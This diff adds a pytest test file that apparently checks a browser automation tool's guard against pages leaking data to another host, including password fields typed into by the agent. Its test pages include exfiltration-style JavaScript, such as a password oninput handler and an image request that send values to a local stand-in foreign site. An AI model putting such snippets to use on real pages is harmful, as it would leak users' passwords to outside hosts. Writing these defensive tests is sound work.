@@ -1,0 +1,121 @@
+"""Where only the run's own sites exist, nothing reaches a second host of this computer: one table of all ways."""
+
+import socket
+from collections.abc import Callable, Generator
+from contextlib import contextmanager
+
+import pytest
+
+from studio.domain.action import Fill
+from tests.browser.interception.guarded import Guarded, yes
+from tests.browser.interception.ways_out import GROUPS, SHARED, Known, Way
+from tests.browser.stage import live
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+_LAST_S = 0.6
+"""How long nothing may come after the last way was tried."""
+
+
+@contextmanager
+def hearing(port: int) -> Generator[Callable[[], bool]]:
+    """Hear datagrams at the port of the foreign site (WebRTC, QUIC); says whether one came."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
+        ear.bind(("127.0.0.1", port))
+        ear.setblocking(False)
+
+        def has_heard() -> bool:
+            try:
+                return bool(ear.recv(2_000))
+            except BlockingIOError:
+                return False
+
+        yield has_heard
+
+
+def filled(guarded: Guarded, text: str) -> str:
+    out = guarded.sites.foreign.url
+    sockets, host = "ws" + out[4:], "127.0.0.1" + out[out.rindex(":") :]
+    return guarded.fill(text.replace("{ws}", sockets).replace("{at}", host))
+
+
+async def tried(guarded: Guarded, ways: tuple[Way, ...]) -> None:
+    """Set every way off on a page of ours, one after the other."""
+    for path, script in SHARED.items():
+        guarded.sites.home.put(path, filled(guarded, script), Content_Type="text/javascript")
+    await guarded.open("<p>本文")
+    for way in (way for way in ways if way.known is not Known.OPEN):
+        await guarded.js(f"() => {{ try {{ {filled(guarded, way.js)} }} catch (e) {{}} }}")
+
+
+@pytest.mark.parametrize("group", GROUPS)
+async def test_nothing_leaves_for_another_host(
+    guarded: Guarded, group: str, record_property: Callable[[str, object], None]
+) -> None:
+    guarded.browser.guard_traffic(guarded.policy, holds_all=True)
+    out = guarded.sites.foreign
+    with hearing(int(out.url.rpartition(":")[2])) as has_heard:
+        await tried(guarded, GROUPS[group])
+        await guarded.quiet()
+        assert await guarded.stays(lambda: not out.paths() and not has_heard(), _LAST_S), (
+            out.paths()
+        )
+    record_property("ways out", [(way.name, str(way.known)) for way in GROUPS[group]])
+
+
+@pytest.mark.parametrize("group", [name for name in GROUPS if name != "unheld"])
+async def test_the_same_ways_arrive_where_they_are_allowed(guarded: Guarded, group: str) -> None:
+    guarded.answers = yes
+    held = sum(way.known is Known.HELD for way in GROUPS[group])
+    await tried(guarded, GROUPS[group])
+    out = guarded.sites.foreign
+    files = {"workers and sockets": -1}  # two workers of one script
+    await guarded.until(lambda: len(set(out.paths())) >= held + files.get(group, 0))
+
+
+async def test_what_is_beside_a_secret_is_held_until_the_page_is_left(guarded: Guarded) -> None:
+    browser, out = guarded.browser, guarded.sites.foreign
+    ways = [*GROUPS["links and scripts"], *GROUPS["workers and sockets"], *GROUPS["parts"]]
+    await tried(guarded, ())
+    await guarded.open("<input type=password aria-label=合言葉 oninput='window.typed=1'>")
+    seen = await browser.observe()
+    browser.keep_secret(["Zx9-Mitsu+77/ura"])
+    before = len(guarded.asked)
+    await browser.perform(Fill(target=live(seen, "合言葉"), value="Zx9-Mitsu+77/ura"))
+    for way in ways:
+        await guarded.js(f"() => {{ try {{ {filled(guarded, way.js)} }} catch (e) {{}} }}")
+    held = sum(way.known is Known.HELD for way in ways)
+    await guarded.until(lambda: len(beside(guarded, before)) >= held)
+    await guarded.quiet()
+    assert out.paths() == []
+    guarded.answers = yes
+    await guarded.open(f"<img src='{out.url}/logo'>", "/next")
+    await guarded.until(lambda: out.paths() == ["/logo"])
+    (last,) = [one for one in guarded.asked if one.url.endswith("/logo")]
+    assert (last.secret_of, last.carries_secret) == ("", False)
+    await guarded.js(f"() => {{ new Image().src = '{out.url}/late?' + 'zx9-mitsu77ura' }}")
+    await guarded.until(lambda: any("/late" in path for path in out.paths()))
+    (last,) = [one for one in guarded.asked if "/late" in one.url]
+    assert (last.secret_of.endswith("/start"), last.carries_secret) == (True, True)
+
+
+async def test_a_password_that_nobody_registered_is_a_secret_too(guarded: Guarded) -> None:
+    out = guarded.sites.foreign
+    await guarded.open(
+        f"<input type=password aria-label=合言葉 oninput=\"new Image().src='{out.url}/weak'\">"
+        f"<input aria-label=名前 oninput=\"new Image().src='{out.url}/open'\">"
+    )
+    seen = await guarded.browser.observe()
+    await guarded.browser.perform(Fill(target=live(seen, "名前"), value="山田"))
+    await guarded.until(lambda: out.paths() == ["/open"])
+    seen = await guarded.browser.observe()
+    await guarded.browser.perform(Fill(target=live(seen, "合言葉"), value="test"))
+    await guarded.until(lambda: any(one.url.endswith("/weak") for one in guarded.asked))
+    await guarded.quiet()
+    assert out.paths() == ["/open"]
+
+
+def beside(guarded: Guarded, before: int) -> list[str]:
+    """Return what was asked about while a secret stood on our page."""
+    home = guarded.sites.home.url
+    return [one.url for one in guarded.asked[before:] if one.secret_of.startswith(home)]
